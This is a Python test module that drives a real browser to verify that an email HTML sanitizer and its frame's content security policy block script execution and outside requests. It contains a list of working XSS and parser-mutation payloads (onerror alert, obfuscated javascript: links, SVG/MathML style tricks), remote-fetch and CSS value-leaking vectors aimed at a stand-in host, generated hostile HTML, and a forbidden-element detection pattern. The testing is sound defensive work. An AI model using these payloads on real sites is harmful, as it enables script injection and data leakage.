"""HTML of strangers in a real browser: nothing runs, nothing is asked of anybody.

The browser is given the cleaned HTML alone, with scripts allowed and without our policy or sandbox,
so that the sanitizer itself is what is tested; the frame's own walls are tested beside it. Many
pieces stand on one page: each page costs a second.
"""

import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Dialog, Page, Request

from delivery import sanitizer
from intake.limits import MailTooComplex
from intake.parser import parse_mail
from tests.delivery.test_sanitizer import FETCHES

pytestmark = [pytest.mark.browser, pytest.mark.slow]

MAILS = sorted((Path(__file__).parents[3] / "shared" / "mails").rglob("*.eml"))
PART, TOGETHER = 40, 250
CORPORA = sorted((Path(__file__).parent / "xss").glob("*.json"))
VECTORS = [vector for corpus in CORPORA for vector in json.loads(corpus.read_text())]
FORBIDDEN = """() => [...document.querySelectorAll('*')].filter(e =>
  /^(script|form|input|button|iframe|frame|object|embed|base|link|svg|math|template|dialog)$/i
    .test(e.localName)
  || (e.localName === 'meta' && e.httpEquiv)
  || [...e.attributes].some(a => /^(on|formaction|srcset|id|class|name|http-equiv)/i.test(a.name)
    && e.localName !== 'meta')
  || /^\\s*(javascript|vbscript|data:text)/i.test(e.getAttribute('href') || '')
).map(e => e.outerHTML.slice(0, 200))"""

# What HTML turns into something else when it is read a second time, or by another reader.
TWISTED = [
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<p><svg><foreignObject><p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ?><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<div style='background:\\75rl(https://abroad.example/x)'>x</div>",
    "<div style='background:url/**/(https://abroad.example/x)'>x</div>",
    "<div style=\"font-family:'x';src:url(https://abroad.example/f)\">x</div>",
    "<div style='color:rgb(1,1,1);background:URL(//abroad.example/x)'>x</div>",
    "<style>@font-face{font-family:x;src:url(https://abroad.example/f)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(https://abroad.example/a)}</style>",
    "<img src='cid:a'><img src='cid:b'>",
    "<img lowsrc='https://abroad.example/x' dynsrc='https://abroad.example/y'>",
    "<body background='https://abroad.example/x' onload='alert(1)'>",
    "<table><td background='https://abroad.example/x'>",
    "<link rel='dns-prefetch' href='//abroad.example'><link rel=preload href='//abroad.example/x'>",
    "<picture><source srcset='https://abroad.example/x'><img src='https://abroad.example/y'>",
    "<audio src='https://abroad.example/x' autoplay></audio><track src='https://abroad.example/t'>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<xss contenteditable autofocus onfocus=alert(1)>x</xss>",
    "<isindex action='https://abroad.example/' type=image><keygen autofocus onfocus=alert(1)>",
    "<applet code=x archive='https://abroad.example/x'></applet><bgsound src='//abroad.example/x'>",
]
TAGS = st.sampled_from((
    *("a", "b", "p", "img", "svg", "math", "style", "script", "form", "input", "table", "td"),
    *("iframe", "noscript", "template", "select", "meta", "link", "base", "object", "video"),
    *("source", "foreignObject", "mglyph", "mtext", "title", "textarea", "plaintext", "xmp"),
))  # fmt: skip
VALUES = st.sampled_from([
    "https://abroad.example/x", "//abroad.example/x", "javascript:alert(1)", "alert(1)", "cid:a",
    "data:text/html,<script>alert(1)</script>", "url(https://abroad.example/x)", "</style>", "-->",
])  # fmt: skip
NAMES = st.sampled_from((
    *("src", "href", "style", "onerror", "onload", "srcset", "action", "background", "poster"),
    *("data", "id", "class", "xlink:href"),
))  # fmt: skip
PIECES = st.one_of(
    st.builds("<{} {}='{}'>".format, TAGS, NAMES, VALUES),
    st.builds("<{} {}={}".format, TAGS, NAMES, VALUES),
    st.builds("</{}>".format, TAGS),
    st.sampled_from(
        ["<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;", "\0", "'", '"', "<", ">"]
    ),
    st.text(max_size=5),
)
HOSTILE = st.lists(PIECES, max_size=12).map("".join)


@dataclass
class Witness:
    """A browser that reports whatever a document makes it do."""

    page: Page
    seen: list[str] = field(default_factory=list)

    def request(self, request: Request) -> None:
        """Note a request."""
        if not request.url.startswith(("data:", "about:")):
            self.seen.append(request.url)

    def dialog(self, dialog: Dialog) -> None:
        """Note that a script ran."""
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def misdeeds(self, texts: Iterable[str]) -> list[str]:
        """Return what the cleaned texts, on one page, hold that they must not, and what they do."""
        self.seen.clear()
        boxes = [f"<div>{cleaned(text)}</div>" for text in texts]
        self.page.set_content(f"<!doctype html><body>{''.join(boxes)}", wait_until="load")
        left = self.page.evaluate("() => document.body.children.length") != len(boxes)
        return [*self.page.evaluate(FORBIDDEN), *self.seen, *["left its box"] * left]


def cleaned(html: str) -> str:
    """Return HTML of a stranger as a recipient gets it, "" when it is refused."""
    try:
        return sanitizer.clean(html).html({"a": "data:image/png;base64,iVBORw0KGgo="})
    except sanitizer.TooDeepError:
        return ""


@pytest.fixture(scope="module")
def witness(browser: Browser) -> Iterator[Witness]:
    """A browser in which scripts may run, and nothing leaves the house unseen."""
    context = browser.new_context()
    context.route("**/*", lambda route: route.abort())
    witness = Witness(context.new_page())
    context.on("request", witness.request)
    witness.page.on("dialog", witness.dialog)
    yield witness
    context.close()


def html_of(mail: Path) -> str:
    """Return the HTML of a mail, "" when it has none."""
    try:
        return parse_mail(mail.read_bytes()).html or ""
    except MailTooComplex:
        return ""


def test_the_witness_sees_what_is_not_cleaned(witness: Witness) -> None:
    witness.seen.clear()
    witness.page.set_content("<img src='https://abroad.example/x' onerror='alert(1)'>")
    witness.page.wait_for_timeout(200)
    assert set(witness.seen) == {"https://abroad.example/x", "dialog 1"}


def test_hostile_html_does_nothing(witness: Witness) -> None:
    assert witness.misdeeds([*FETCHES, *TWISTED]) == []


def test_hostile_html_in_one_mail_does_nothing(witness: Witness) -> None:
    assert witness.misdeeds(["".join([*FETCHES, *TWISTED])]) == []


@pytest.mark.parametrize("start", range(0, len(VECTORS), TOGETHER))
def test_the_vectors_of_public_collections_do_nothing(witness: Witness, start: int) -> None:
    assert witness.misdeeds(VECTORS[start : start + TOGETHER]) == []


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(texts=st.lists(HOSTILE, min_size=20, max_size=40))
def test_whatever_somebody_thinks_of_does_nothing(witness: Witness, texts: list[str]) -> None:
    assert witness.misdeeds(texts) == []


@pytest.mark.skipif(not MAILS, reason="the collection of mails (../shared/mails) is not here")
@pytest.mark.parametrize("part", range(PART))
def test_mails_that_were_really_sent_do_nothing(witness: Witness, part: int) -> None:
    assert witness.misdeeds(map(html_of, MAILS[part::PART])) == []


@pytest.mark.parametrize("scripts", [True, False])
def test_the_frame_alone_stops_what_is_not_cleaned(browser: Browser, scripts: bool) -> None:
    context = browser.new_context(java_script_enabled=scripts)
    seen: list[str] = []
    headers = {"Content-Security-Policy": sanitizer.BODY_CSP, "Content-Type": "text/html"}
    raw = "".join([*FETCHES, *TWISTED]).replace("http-equiv", "x")
    context.route("**/*", lambda route: route.fulfill(body=raw, headers=headers))
    context.on("requestfinished", lambda request: seen.append(request.url))
    page = context.new_page()
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    page.goto("http://mail.example/")
    page.wait_for_timeout(300)
    context.close()
    assert [url for url in seen if "mail.example" not in url and url[:5] != "data:"] == []
